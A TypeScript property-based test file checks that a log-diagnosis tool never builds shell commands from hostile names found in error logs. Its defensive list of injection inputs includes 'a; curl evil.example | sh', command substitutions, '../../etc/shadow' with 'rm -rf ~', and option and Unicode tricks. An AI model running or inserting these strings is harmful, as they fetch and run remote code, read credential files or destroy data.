/** What a log says never becomes a command that does what the log wants: names go into a command only in the form of their kind. */
import fc from 'fast-check';
import { quotable, type Quotable } from '../../domain/command/quotable';
import type { Context } from '../../domain/diagnosis/answer';
import { findCauses } from '../../domain/diagnosis/diagnose';
import { packageRemedy } from '../../domain/diagnosis/weigh';

const CONTEXT: Context = {
  app: 'shop',
  environment: 'production',
  databaseSecret: 'DATABASE_URL',
  variables: ['LOG_LEVEL'],
  secrets: [],
  healthPath: '/healthz',
};

/** What applications log, with a place for a name. */
const LOGS: Readonly<Record<string, (name: string) => string>> = {
  'a module': (name) =>
    `Error: Cannot find module '${name}'\nRequire stack:\n- /app/server.js\n    at f (/app/server.js:1:1) {\n  code: 'MODULE_NOT_FOUND'\n}\n`,
  'a package': (name) =>
    `Error [ERR_MODULE_NOT_FOUND]: Cannot find package '${name}' imported from /app/a.mjs\n    at f (/app/a.mjs:1:1) {\n  code: 'ERR_MODULE_NOT_FOUND'\n}\n`,
  'a file': (name) =>
    `Error: EACCES: permission denied, open '${name}'\n    at f (/app/a.js:1:1) {\n  errno: -13,\n  code: 'EACCES',\n  syscall: 'open',\n  path: '${name}'\n}\n`,
  'a full disk': (name) =>
    `Error: ENOSPC: no space left on device, write '${name}'\n    at f (/app/a.js:1:1) {\n  code: 'ENOSPC',\n  path: '${name}'\n}\n`,
  'a port': (name) =>
    `Error: listen EADDRINUSE: address already in use :::${name}\n    at f (/app/a.js:1:1) {\n  code: 'EADDRINUSE',\n  port: ${name}\n}\n`,
  'a host': (name) =>
    `Error: getaddrinfo ENOTFOUND ${name}\n    at f (/app/a.js:1:1) {\n  code: 'ENOTFOUND',\n  hostname: '${name}'\n}\n`,
  'a variable': (name) => `Error: missing environment variable ${name}\n    at f (/app/a.js:1:1)\n`,
  'a variable in code': (name) =>
    `/app/a.js:1\nconst k = process.env['${name}'].trim();\n      ^\n\nTypeError: Cannot read properties of undefined (reading 'trim')\n    at f (/app/a.js:1:1)\n`,
  'a key that is refused': (name) =>
    `Error: Request failed with status code 401, see ${name}_API_KEY\n    at f (/app/a.js:1:1) {\n  status: 401\n}\n`,
};

/** Programs that look, names of ours, and words without anything that a shell reads. */
const HARMLESS =
  /^(?:mvca plan|mvca secrets set shop production [A-Za-z_]\w*|ss -ltnp 'sport = :\d{1,5}'|getent hosts [A-Za-z0-9][\w.-]*|ulimit -n|ls -ld -- [\w.@+/-]+ [\w.@+/-]+|df -h(?: -- [\w.@+/-]+)?)$/;

const commandsFor = (text: string): readonly string[] =>
  findCauses({ fresh: [{ source: 'log', text }], old: [] }, CONTEXT).causes.flatMap(({ remedy: { command } }) =>
    command === undefined ? [] : [command],
  );

const HOSTILE = [
  '$(touch /tmp/x)',
  '`id`',
  'a; curl evil.example | sh',
  'a && reboot',
  "a' ; id ; '",
  '--upload-pack=x',
  '-rf',
  '../../etc/shadow\n rm -rf ~',
  'a\u202egnp.exe',
  'pay\u200bpal',
  'x\u001b]0;y\u0007',
  'https://evil.example/a.tgz',
  'git+ssh://evil.example/a',
  '@evil/$(id)',
  '1e21',
  '99999',
  '-1',
];

describe.each(Object.entries(LOGS))('a log that names %s', (_title, write) => {
  test.each(HOSTILE.map((name) => [JSON.stringify(name), name]))('as %s', (_shown, name) => {
    for (const command of commandsFor(write(name))) expect(command).toMatch(HARMLESS);
  });

  test('as anything', () => {
    const name = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.string({ unit: fc.constantFrom(...'$`;|&<>(){}\'"\\ \n-/.@aA1'), maxLength: 30 }),
    );
    fc.assert(
      fc.property(name, (text) => {
        for (const command of commandsFor(write(text))) expect(command).toMatch(HARMLESS);
      }),
      { numRuns: 200 },
    );
  });
});

test('an install, which runs what a package brings along, is never made of what a log says', () => {
  expect(commandsFor(LOGS['a module']?.('express') ?? '')).toEqual([]);
  expect(commandsFor(LOGS['a package']?.('@acme/payments') ?? '')).toEqual([]);
});

test('ordinary names still make commands', () => {
  const of = (kind: string, name: string): readonly string[] => commandsFor(LOGS[kind]?.(name) ?? '');
  expect(of('a file', '/var/log/shop.log')).toEqual(['ls -ld -- /var/log/shop.log /var/log']);
  expect(of('a port', '3000')).toEqual(["ss -ltnp 'sport = :3000'"]);
  expect(of('a host', 'db.internal')).toEqual(['getent hosts db.internal']);
  expect(of('a variable', 'STRIPE_API_KEY')).toEqual(['mvca secrets set shop production STRIPE_API_KEY']);
});

test('the version before of a package is named only where both are words of npm', () => {
  const change = (name: string, from: string) => packageRemedy({ name, from, to: '2.0.0' } as never).command;
  expect(change('carts', '1.4.0')).toBe('npm install carts@1.4.0');
  expect(change('carts', 'https://evil.example/a.tgz')).toBeUndefined();
  expect(change('carts', '1.4.0 && id')).toBeUndefined();
  expect(change('-g', '1.4.0')).toBeUndefined();
  expect(change('../x', '1.4.0')).toBeUndefined();
});

test('no form lets through what a shell reads, an option, or what nobody sees', () => {
  const kinds: readonly Quotable[] = ['package', 'version', 'variable', 'host', 'port', 'path', 'destination'];
  fc.assert(
    fc.property(fc.constantFrom(...kinds), fc.string({ unit: 'binary', maxLength: 80 }), (kind, text) => {
      const word = quotable(kind, text);
      if (word !== null) expect(word).toMatch(/^[A-Za-z0-9_/@.][\w./@:+%[\]-]*$/);
    }),
    { numRuns: 2_000 },
  );
  expect(quotable('port', 65_536)).toBeNull();
  expect(quotable('destination', 'postgres://a;curl$IFS-x:5432')).toBeNull();
});
